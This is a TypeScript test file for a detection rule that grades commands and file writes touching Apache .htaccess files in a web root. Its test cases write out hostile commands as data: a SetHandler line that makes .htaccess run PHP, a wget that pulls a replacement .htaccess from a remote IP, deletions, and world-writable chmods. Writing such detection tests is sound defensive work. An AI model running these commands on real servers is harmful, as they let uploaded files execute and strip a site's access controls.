import { describe, expect, test } from "vitest";
import type { Fact } from "../events/fact.ts";
import { htaccessAccessCommand } from "./htaccess-access.command.ts";
import { htaccessAccessFile } from "./htaccess-access.file.ts";
import { below, process, ran, run, script } from "./testing/root-shell.ts";

const site = { cwd: "/var/www/html" };

describe(".htaccess by a command", () => {
  test.each([
    ["echo 'SetHandler application/x-httpd-php' > .htaccess", "high"],
    ["touch img/.htaccess", "medium"],
    ["mv h.txt .htaccess", "medium"],
    ["sed -i s/Deny/Allow/ /var/www/html/.htaccess", "medium"],
    ["wget -O .htaccess http://192.0.2.7/h", "medium"],
    ["chattr +i .htaccess", "medium"],
    ["rm .htaccess", "medium"],
    ["find . -name .htaccess -delete", "medium"],
    ["find . -type f -name .htaccess -exec rm {} +", "medium"],
    ["chmod 666 .htaccess", "medium"],
    ["chmod a+w .htaccess", "medium"],
    ["chmod 644 .htaccess", "low"],
  ])("%s is graded %s", (line, confidence) => {
    expect(run(htaccessAccessCommand, [script(line, site)])).toMatchObject([{ confidence }]);
  });

  test.each([
    "find . ! -name .htaccess -delete",
    "cat .htaccess",
    "find . -name .htaccess",
    "grep Rewrite .htaccess > out",
    "touch .htaccess.md",
  ])("%s raises nothing", (line) => {
    expect(run(htaccessAccessCommand, [script(line, site)])).toEqual([]);
  });

  test("a deployment and an allowed directory are quiet", () => {
    const touch = ran(["touch", ".htaccess"], { ...site, ...below("/usr/bin/git") });
    expect(run(htaccessAccessCommand, [touch])).toEqual([]);
    expect(
      run(htaccessAccessCommand, [ran(["touch", ".htaccess"], site)], { allowedDirectories: ["/var/www/"] }),
    ).toEqual([]);
  });
});

describe(".htaccess as a file", () => {
  const wrote = (operation: "create" | "delete", exe: string): Fact => ({
    kind: "file.changed",
    at: 1,
    operation,
    file: { path: "/var/www/html/.htaccess" },
    process: process(["x"], { exe }),
  });

  test("written by a shell fires, by the web server itself is low, by rsync is quiet", () => {
    expect(run(htaccessAccessFile, [wrote("create", "/usr/bin/bash")])).toMatchObject([{ confidence: "medium" }]);
    expect(run(htaccessAccessFile, [wrote("create", "/usr/sbin/apache2")])).toMatchObject([{ confidence: "low" }]);
    expect(run(htaccessAccessFile, [wrote("create", "/usr/bin/rsync")])).toEqual([]);
    expect(run(htaccessAccessFile, [wrote("delete", "/usr/bin/bash")])).toEqual([]);
  });
});
